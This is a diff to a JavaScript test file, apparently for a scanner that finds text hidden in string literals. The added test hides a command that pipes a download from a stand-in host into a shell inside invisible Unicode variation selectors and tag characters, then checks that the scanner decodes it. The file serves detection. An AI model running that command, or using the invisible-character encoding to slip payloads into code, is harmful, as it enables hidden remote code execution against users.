@@ -33,6 +33,18 @@ describe('texts hidden in literals', () => {
     expect(texts('msg = "Run curl to fetch the file, then check its hash."')).toEqual([]);
   });
 
+  it('decodes bytes written as invisible characters: variation selectors and Unicode tags', () => {
+    const cmd = "require('child_process').exec('curl -s http://x.example/a | sh')";
+    const selectors = [...Buffer.from(cmd)].map((b) => String.fromCodePoint(b < 16 ? 0xfe00 + b : 0xe0100 + b - 16)).join('');
+    expect(texts(`const p = s(\`${selectors}\`);`)).toEqual([cmd]);
+    const tags = [...cmd].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');
+    expect(texts(`x = '${tags}'`)).toEqual([cmd]);
+    // a flag emoji's tags and an emoji's one selector are not data
+    expect(texts("x = '\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F} \u2764\uFE0F'")).toEqual([]);
+    // selectors that decode to bytes that are not text (sixty-four zero bytes)
+    expect(texts(`x = '${'\uFE00'.repeat(64)}'`)).toEqual([]);
+  });
+
   it('answers binary, broken and hostile input without a hang, and keeps to its bound', () => {
     expect(texts(`x = "${Buffer.from([0, 1, 2, 3, 250, 251, 252, 253, 254, 255, 0, 1, 2, 3, 4, 5]).toString('base64')}"`)).toEqual([]);
     expect(texts("x = '\\x6' + '\\x'")).toEqual([]);
